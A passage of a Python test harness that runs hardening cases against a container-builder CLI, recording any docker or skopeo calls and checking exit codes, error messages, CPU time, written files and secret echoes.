            (d / tool).write_text(f'#!/bin/sh\necho "{tool} $*" >> "$BUILDER_HARDENING_CALLS"\nexec {real} "$@"\n')
            (d / tool).chmod(0o755)
        _SHIMS.append(d)
    return _SHIMS[0]


def _watched(case: Case) -> bool:
    return case.code == 2 and not case.as_nobody and "PATH" not in case.env and "DOCKER_HOST" not in case.env


def run(case: Case, tmp: Path, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """The case through the real entry point (`python -m builder.cli`), in tmp. The result also carries `calls`
    (docker / skopeo commands run, for a case refused with exit 2), `cpu` (the child's user + system
    seconds, from wait4) and `wall` (seconds)."""
    import tempfile
    import threading
    import time

    env = {**os.environ, "PYTHONPATH": str(REPO), **case.env}
    env.pop("BUILDER_CA_BUNDLE", None) if "BUILDER_CA_BUNDLE" not in case.env else None
    env.pop("SOURCE_DATE_EPOCH", None) if "SOURCE_DATE_EPOCH" not in case.env else None
    python = [sys.executable]
    if case.as_nobody:  # root reads every file: another user is who meets "Permission denied"
        env["PYTHONPATH"] = nobody_python_path()
        env["PYTHONDONTWRITEBYTECODE"] = "1"
        env["HOME"] = str(tmp)
        python = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3"]
    calls = None
    if _watched(case):
        fd, name = tempfile.mkstemp(prefix="builder-hardening-calls-", dir="/tmp")
        os.close(fd)
        calls = Path(name)
        env.update(BUILDER_HARDENING_CALLS=str(calls), PATH=f"{_shim_dir()}:{env.get('PATH', '')}",
                   DOCKER_HOST="unix:///nonexistent/builder-hardening.sock")
    t0 = time.monotonic()
    proc = subprocess.Popen([*python, "-m", "builder.cli", *argv(case, tmp)], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, cwd=tmp, env=env)
    out: dict[str, str] = {}
    readers = [threading.Thread(target=lambda k=k, f=f: out.__setitem__(k, f.read()))
               for k, f in (("stdout", proc.stdout), ("stderr", proc.stderr))]
    for r in readers:
        r.start()
    killer = threading.Timer(timeout, proc.kill)
    killer.start()
    try:
        _, status, usage = os.wait4(proc.pid, 0)
    finally:
        killer.cancel()
    for r in readers:
        r.join()
    proc.returncode = os.waitstatus_to_exitcode(status)
    res = subprocess.CompletedProcess(proc.args, proc.returncode, out.get("stdout", ""), out.get("stderr", ""))
    res.wall = time.monotonic() - t0
    res.cpu = usage.ru_utime + usage.ru_stime
    res.calls = []
    if calls is not None:
        res.calls = calls.read_text().splitlines()
        calls.unlink()
    return res


def runs_in_process(case: Case) -> bool:
    """Whether the case can run in-process: not as another user, and answering without starting a program."""
    return not case.as_nobody and not case.needs_programs


class ProgramStarted(RuntimeError):
    """A case run in-process tried to start a program (run_in_process refuses and records it)."""


def run_in_process(case: Case, tmp: Path) -> subprocess.CompletedProcess[str]:
    """The case through click's CliRunner on builder.cli:main (the console script's entry point, with its one
    error path), in tmp, with the case's environment. Starting any program is refused and recorded in `calls`
    (a refusal must come before any docker call; a case that needs one is not run here); `cpu` and `wall` are
    this process's seconds for the invocation. An exception the entry point let through is a traceback in
    stderr, as the console script would print it."""
    import time
    import traceback

    from click.testing import CliRunner

    from builder.cli import main

    env: dict[str, str | None] = {"BUILDER_CA_BUNDLE": None, "SOURCE_DATE_EPOCH": None, **case.env}
    if _watched(case):
        env["DOCKER_HOST"] = "unix:///nonexistent/builder-hardening.sock"  # a docker SDK call would be exit 3
    calls: list[str] = []

    def refuse(what: str, method: bool = False):
        def started(*args, **kwargs):
            args = args[1:] if method else args
            cmd = args[0] if args else kwargs.get("args", "?")
            calls.append(cmd if isinstance(cmd, str) else " ".join(map(str, cmd)))
            raise ProgramStarted(f"{what}: {cmd!r}")

        return started

    patched = {(subprocess.Popen, "__init__"): refuse("subprocess.Popen", method=True)}
    for name in ("system", "posix_spawn", "posix_spawnp", "fork", "forkpty", "execv", "execve", "execvp", "execvpe"):
        if hasattr(os, name):
            patched[(os, name)] = refuse(f"os.{name}")
    saved = {key: getattr(*key) for key in patched}
    try:
        runner = CliRunner(mix_stderr=False)  # click < 8.2
    except TypeError:
        runner = CliRunner()
    cwd = os.getcwd()
    cpu, t0 = time.process_time(), time.monotonic()
    try:
        for (owner, name), fn in patched.items():
            setattr(owner, name, fn)
        os.chdir(tmp)
        result = runner.invoke(main, argv(case, tmp), env=env, catch_exceptions=True)
    finally:
        os.chdir(cwd)
        for (owner, name), fn in saved.items():
            setattr(owner, name, fn)
    stderr = result.stderr
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        stderr += "".join(traceback.format_exception(*result.exc_info))
    res = subprocess.CompletedProcess(["builder", *argv(case, tmp)], result.exit_code, result.stdout, stderr)
    res.cpu, res.wall, res.calls = time.process_time() - cpu, time.monotonic() - t0, calls
    return res


def snapshot(root: Path) -> dict[str, tuple]:
    """Every path under root with its type, size and mtime (what "nothing was written" compares)."""
    out = {}
    for dirpath, dirs, files in os.walk(root):
        for name in dirs + files:
            p = Path(dirpath, name)
            try:
                st = p.lstat()
            except OSError:
                continue
            out[str(p.relative_to(root))] = (stat.S_IFMT(st.st_mode), st.st_size if not stat.S_ISDIR(st.st_mode) else 0,
                                             st.st_mtime_ns if not stat.S_ISDIR(st.st_mode) else 0)
    return out


def check_case(case: Case, in_process: bool = False) -> tuple["Verdict", list[str]]:
    """Run one case in a fresh temp dir (world-writable when it runs as nobody), as a real process or
    in-process (run_in_process): its verdict, and which of builder's output directories it left that the case
    itself did not make."""
    import tempfile

    tmp = Path(tempfile.mkdtemp(prefix="builder-hardening-", dir="/tmp"))
    try:
        if case.as_nobody:
            tmp.chmod(0o777)
        make_fixture(tmp, case)
        before = snapshot(tmp)
        runner = run_in_process if in_process else run
        res = runner(case, tmp)
        after = snapshot(tmp)
        remeasure_cpu(case, res, lambda: runner(case, tmp))
        verdict = judge(case, res, before, after)
        made = {rel.split("/")[0] for rel in case.files}
        return verdict, [d for d in OUTPUTS if d not in made and (tmp / d).exists()]
    finally:
        shutil.rmtree(tmp, ignore_errors=True)  # files of mode 0 too: the suite runs as root (CI machines)


CPU_BOUND = 1.0  # seconds of CPU a refusal of bad input may take (exit 2): it must come before any real work
LINE_BOUND = 1000  # characters of one line of what a case prints, whatever the input held


def remeasure_cpu(case: Case, res, again: Callable[[], object], tries: int = 2) -> None:
    """A refusal over CPU_BOUND is run again (up to `tries` times) and keeps its smallest CPU time. CPU time on a
    shared host is the run's own cost plus what its neighbours add (cache misses, a sibling hyperthread): the
    smallest of a few runs measures the first, which is what the bound is about; a refusal that does real work
    before refusing stays over it every time. Only the CPU figure is taken from the reruns."""
    for _ in range(tries):
        if case.code != 2 or getattr(res, "cpu", 0) <= CPU_BOUND:
            return
        res.cpu = min(res.cpu, again().cpu)


@dataclass
class Verdict:
    clear: bool  # the expected exit code, a message naming the problem, nothing written, no secret echoed, no
    # line over LINE_BOUND
    traceback: bool
    accepted: bool  # exit 0 where a refusal was expected: silently accepted
    why: str

    @property
    def misleading(self) -> bool:
        """Refused, but with the wrong code or a message that does not name the problem (or it wrote or echoed)."""
        return not (self.clear or self.traceback or self.accepted)


def judge(case: Case, res: subprocess.CompletedProcess[str], before: dict, after: dict) -> Verdict:
    out = res.stdout + res.stderr
    traceback = "Traceback (most recent call last)" in out
    accepted = res.returncode == 0 and case.code != 0
    problems = []
    if SECRET in out:
        problems.append("echoed a secret")
    if getattr(res, "calls", None):
        problems.append(f"ran {res.calls[0]!r} before refusing")
    if case.code == 2 and getattr(res, "cpu", 0) > CPU_BOUND:
        problems.append(f"took {res.cpu:.2f} s of CPU to refuse (at most {CPU_BOUND:g} s, the least of 3 runs)")
    if res.returncode != case.code:
        problems.append(f"exit {res.returncode}, expected {case.code}")
    missing = [f for f in case.expect if f not in out]
    if missing:
        problems.append(f"message lacks {missing}")
    errors = [line for line in res.stderr.splitlines() if line.startswith(("error: ", "Error: "))]
    if case.code in (2, 3) and not errors:
        problems.append("no 'error: ' line")
    if traceback:
        problems.append("traceback")
    longest = max((len(line) for line in out.splitlines()), default=0)
    if longest > LINE_BOUND:  # an echo of the input not cut short (redact.describe, redact.clip)
        problems.append(f"printed a line of {longest} characters (at most {LINE_BOUND})")
    written = sorted(set(after) - set(before)) + sorted(k for k in before if k in after and before[k] != after[k])
    written = [w for w in written if not w.startswith("fx/__pycache__")]
    if written:
        problems.append(f"wrote {written[:5]}")
    return Verdict(not problems, traceback, accepted, "; ".join(problems) + f"\n--- output:\n{out[-2000:]}")


def plugged_in(directory: Path = Path(__file__).parent) -> list[Case]:
    """The CASES of every other module in `directory` (this one's by default: a module per class of input),
    in file-name order: a module of cases plugs in without an edit here. Each may import what it needs from this module
    (Case, the argv pieces, the file makers): the names above exist by the time it runs."""
    import importlib.util

    out: list[Case] = []
    for path in sorted(directory.glob("*.py")):
        if path.stem == "__init__" or path.stem.startswith("test_") or path.resolve() == Path(__file__).resolve():
            continue  # the package, the test that runs the table, this module: the others hold cases
        name = f"{__package__}.{path.stem}" if __package__ else path.stem
        module = sys.modules.get(name)
        if module is None or Path(getattr(module, "__file__", "")).resolve() != path.resolve():
            spec = importlib.util.spec_from_file_location(name, path)
            module = importlib.util.module_from_spec(spec)
            sys.modules[name] = module
            spec.loader.exec_module(module)
        cases = getattr(module, "CASES", None)
        if not isinstance(cases, list) or not all(isinstance(c, Case) for c in cases):
            raise TypeError(f"{path.name}: CASES must be a list of hardening_cases.Case")
        out += cases
    return out


CASES += plugged_in()
